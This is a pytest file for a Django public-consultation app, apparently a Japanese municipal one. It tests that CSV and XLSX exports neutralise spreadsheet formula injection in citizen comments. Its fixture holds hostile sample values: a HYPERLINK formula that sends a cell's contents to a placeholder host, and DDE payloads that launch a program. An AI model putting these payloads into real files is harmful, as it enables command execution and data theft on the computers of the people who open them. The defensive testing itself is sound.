"""Citizens' input in the staff CSV/XLSX export and in the 提出用一式's results CSV is never a
formula: CSV fields that start like one get a leading ``'`` (OWASP), XLSX cells are strings with
Excel's quote prefix, and the text itself stays what the citizen wrote."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from workbench.consultation.models import Comment, Consultation
from workbench.procedure.package import consultation_results_csv

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://example.invalid/?"&A1,"詳細")'
ADDRESS = "=cmd|' /C calc'!A0"
PHONE = "+81-96-328-2111"
BODY = "@SUM(1+1)*cmd|' /C calc'!A0"
ANSWER = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def hostile(assessment, people, org):
    consultation = Consultation.objects.create(
        version=assessment.versions.get(),
        organization=org,
        title="住基 全項目評価書(案)への意見募集",
        opens_on=date(2025, 1, 6),
        closes_on=date(2025, 2, 4),
        contact="区政課",
        created_by=people["author"],
        results_published_at=timezone.now(),
    )
    Comment.objects.create(
        consultation=consultation,
        receipt="2025-0001",
        name=NAME,
        address=ADDRESS,
        phone=PHONE,
        email="=1+1@example.jp",
        body=BODY,
        answer=ANSWER,
    )
    return consultation


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_staff_csv_marks_formula_fields_as_text(client, people, hostile):
    client.force_login(people["admin"])
    response = client.get(reverse("consultation_export", args=[hostile.pk]))
    head, row = _rows(response.content.decode("utf-8-sig"))
    cells = dict(zip(head, row, strict=True))
    assert cells["氏名/団体名"] == "'" + NAME
    assert cells["住所"] == "'" + ADDRESS
    assert cells["電話番号"] == "'" + PHONE
    assert cells["メールアドレス"] == "'=1+1@example.jp"
    assert cells["意見(伏字後)"] == "'" + BODY
    assert cells["市の考え方"] == "'" + ANSWER
    assert cells["受付番号"] == "2025-0001"  # ordinary text is unchanged
    assert not any(value[:1] in "=+-@\t\r" and value for value in row)


def test_staff_xlsx_keeps_the_text_as_written_but_never_a_formula(client, people, hostile):
    client.force_login(people["admin"])
    response = client.get(reverse("consultation_export_xlsx", args=[hostile.pk]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    head = [c.value for c in sheet[1]]
    cells = dict(zip(head, sheet[2], strict=True))
    for column, text in (("氏名/団体名", NAME), ("住所", ADDRESS), ("電話番号", PHONE), ("意見(伏字後)", BODY)):
        cell = cells[column]
        assert cell.value == text, column
        assert cell.data_type == "s", column
        assert cell.quotePrefix, column
    assert not cells["受付番号"].quotePrefix


def test_the_packages_results_csv_marks_formula_fields_as_text(hostile):
    head, row = _rows(consultation_results_csv(hostile).decode("utf-8-sig"))
    cells = dict(zip(head, row, strict=True))
    assert cells["意見の概要"] == "'" + BODY
    assert cells["考え方"] == "'" + ANSWER
    assert NAME not in "".join(row)
    assert ADDRESS not in "".join(row)
